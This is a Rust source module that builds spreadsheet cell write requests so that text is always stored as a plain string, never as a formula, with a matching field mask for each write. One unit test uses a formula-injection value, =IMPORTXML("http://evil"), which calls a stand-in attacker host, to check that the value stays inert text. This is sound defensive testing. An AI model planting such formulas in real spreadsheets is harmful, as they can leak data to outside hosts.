//! Building write requests the safe way: text goes in as `stringValue` (never a formula), fills
//! and links as formats, each with the exact `fields` mask it needs.

use crate::sheet::Rgb;

/// What to write into one cell; `None` parts are left as they are.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct CellWrite {
    /// Written as text even when it starts with `=`.
    pub text: Option<String>,
    pub background: Option<Rgb>,
    /// A link on the cell's text; `Some("")` removes it.
    pub link: Option<String>,
}

/// The `fields` mask covering what `w` sets.
pub fn mask_for(w: &CellWrite) -> String {
    let mut parts = Vec::new();
    if w.text.is_some() {
        parts.push("userEnteredValue");
    }
    if w.background.is_some() {
        parts.push("userEnteredFormat.backgroundColor");
    }
    if w.link.is_some() {
        parts.push("userEnteredFormat.textFormat.link");
    }
    parts.join(",")
}

#[cfg(test)]
mod tests {
    use super::super::batch::update_row;
    use super::*;

    #[test]
    fn text_is_a_string_value_even_with_equals() {
        let w = CellWrite {
            text: Some("=IMPORTXML(\"http://evil\")".into()),
            ..CellWrite::default()
        };
        let req = update_row(3, 4, 0, &[w]);
        let json = serde_json::to_value(&req).unwrap();
        let value = &json["updateCells"]["rows"][0]["values"][0]["userEnteredValue"];
        assert_eq!(value["stringValue"], "=IMPORTXML(\"http://evil\")");
        assert!(value["formulaValue"].is_null());
        assert_eq!(json["updateCells"]["fields"], "userEnteredValue");
        assert_eq!(json["updateCells"]["start"]["rowIndex"], 4);
        assert!(!req.writes_formula());
    }

    #[test]
    fn masks_cover_what_is_set() {
        let w = CellWrite {
            text: Some("x".into()),
            background: Some(Rgb::GREEN),
            link: Some("https://k8s.io".into()),
        };
        assert_eq!(
            mask_for(&w),
            "userEnteredValue,userEnteredFormat.backgroundColor,userEnteredFormat.textFormat.link"
        );
    }
}
